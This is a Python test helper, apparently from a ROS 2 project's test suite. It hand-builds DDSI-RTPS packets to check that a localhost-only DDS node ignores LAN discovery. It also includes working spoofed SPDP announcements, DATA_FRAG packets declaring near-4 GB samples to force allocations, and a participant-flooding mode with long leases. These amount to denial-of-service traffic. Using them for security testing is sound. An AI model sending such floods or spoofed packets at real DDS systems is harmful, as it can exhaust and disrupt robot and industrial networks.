"""Hand-written RTPS datagrams (DDSI-RTPS 2.3), from the specification, for what
no DDS implementation sends on purpose:

- an SPDP announcement (8.5.3, 9.6.2.2) sent by unicast from another host, and a
  listener for whatever a DDS participant sends back: how tests/ros2.rs shows
  that a `discovery localhost` node takes nothing from the LAN. The announcement
  says the new participant's metatraffic and default unicast locator is
  127.0.0.1:REPLY_PORT, so a node that accepts it answers there, on its own
  host, where the listener waits;
- DATA_FRAGs (8.3.7.3, 9.4.5.4) that announce huge samples, one fragment each,
  from a new writer each time, to the SPDP reader: what one datagram can make a
  reader allocate;
- a flood of SPDP announcements, each from a new participant (a fresh GUID
  prefix), as fast as a socket sends them: what a LAN host can make discovery
  remember and work on.

    rtps_probe.py send HOST REPLY_PORT PORT...   the announcement to HOST:PORT, each
                                                  PORT, 10 times over 2 s
    rtps_probe.py listen REPLY_PORT SECS          count RTPS datagrams received on
                                                  127.0.0.1:REPLY_PORT
    rtps_probe.py datafrag HOST PORT N SIZE       N DATA_FRAGs of a SIZE-byte sample,
                                                  and one of 0xFFFFFFF0 bytes
    rtps_probe.py participants HOST PORT N REPLY_PORT [RATE]
                                                  N announcements, each from a new
                                                  participant, RATE a second (as
                                                  fast as it can without RATE)

Prints one JSON line.
"""
import json
import os
import socket
import struct
import sys
import time


def param(pid, value):
    value += b"\0" * (-len(value) % 4)
    return struct.pack("<HH", pid, len(value)) + value


def locator(port):
    return struct.pack("<iI", 1, port) + b"\0" * 12 + socket.inet_aton("127.0.0.1")


def announcement(reply_port, prefix=None, lease_s=100):
    prefix = prefix or os.urandom(12)
    params = b"".join([
        param(0x0015, b"\x02\x03"),                      # PID_PROTOCOL_VERSION 2.3
        param(0x0016, b"\x01\xaa"),                      # PID_VENDORID
        param(0x0050, prefix + b"\x00\x00\x01\xc1"),     # PID_PARTICIPANT_GUID
        param(0x0032, locator(reply_port)),              # PID_METATRAFFIC_UNICAST_LOCATOR
        param(0x0031, locator(reply_port)),              # PID_DEFAULT_UNICAST_LOCATOR
        param(0x0002, struct.pack("<iI", lease_s, 0)),   # PID_PARTICIPANT_LEASE_DURATION
        param(0x0058, struct.pack("<I", 0x3F)),          # PID_BUILTIN_ENDPOINT_SET
        struct.pack("<HH", 0x0001, 0),                   # PID_SENTINEL
    ])
    payload = b"\x00\x03\x00\x00" + params              # PL_CDR_LE
    # DATA: extraFlags, octetsToInlineQos 16, readerId SPDP reader, writerId SPDP
    # writer, writerSN 1; flags E (little endian) and D (data).
    body = struct.pack("<HH", 0, 16) + bytes.fromhex("000100c7000100c2") + struct.pack("<iI", 0, 1)
    body += payload
    data = struct.pack("<BBH", 0x15, 0x05, len(body)) + body
    return b"RTPS\x02\x03\x01\xaa" + prefix + data


def datafrag(sample_size):
    """A DATA_FRAG from a new writer (a random GUID prefix) to the SPDP reader:
    fragment 1 of 1024 bytes of a sample of `sample_size` bytes."""
    prefix = os.urandom(12)
    frag = b"\x00\x03\x00\x00" + os.urandom(1020)
    # extraFlags, octetsToInlineQos 28, readerId SPDP reader, writerId SPDP writer,
    # writerSN 1, fragmentStartingNum 1, fragmentsInSubmessage 1, fragmentSize
    # 1024, sampleSize; flags E (little endian).
    body = struct.pack("<HH", 0, 28) + bytes.fromhex("000100c7000100c2") + struct.pack("<iI", 0, 1)
    body += struct.pack("<IHHI", 1, 1, 1024, sample_size) + frag
    return b"RTPS\x02\x03\x01\xaa" + prefix + struct.pack("<BBH", 0x16, 0x01, len(body)) + body


def main():
    mode = sys.argv[1]
    if mode == "participants":
        host, port, n, reply_port = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
        rate = float(sys.argv[6]) if len(sys.argv) > 6 else 0
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        # Built first (os.urandom per GUID), so the send is only sendto calls. A
        # lease of 1000 s: an attacker's participants never expire by themselves.
        msgs = [announcement(reply_port, os.urandom(12), 1000) for _ in range(n)]
        start = time.time()
        for k, m in enumerate(msgs):
            s.sendto(m, (host, port))
            if rate and k % 100 == 99:
                time.sleep(max(0, start + (k + 1) / rate - time.time()))
        secs = time.time() - start
        print(json.dumps({"sent": n, "secs": round(secs, 3)}), flush=True)
    elif mode == "datafrag":
        host, port, n, size = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for k in range(n):
            s.sendto(datafrag(size), (host, port))
            if k % 10 == 9:
                time.sleep(0.01)
        s.sendto(datafrag(0xFFFFFFF0), (host, port))
        print(json.dumps({"sent": n + 1}), flush=True)
    elif mode == "send":
        host, reply_port, ports = sys.argv[2], int(sys.argv[3]), [int(p) for p in sys.argv[4:]]
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        msg = announcement(reply_port)
        sent = 0
        for _ in range(10):
            for p in ports:
                s.sendto(msg, (host, p))
                sent += 1
            time.sleep(0.2)
        print(json.dumps({"sent": sent}), flush=True)
    else:
        reply_port, secs = int(sys.argv[2]), float(sys.argv[3])
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("127.0.0.1", reply_port))
        s.settimeout(0.1)
        print(json.dumps({"listening": reply_port}), flush=True)
        got, end = 0, time.time() + secs
        while time.time() < end:
            try:
                d = s.recv(65536)
                got += d[:4] == b"RTPS"
            except socket.timeout:
                pass
        print(json.dumps({"rtps": got}), flush=True)


if __name__ == "__main__":
    main()
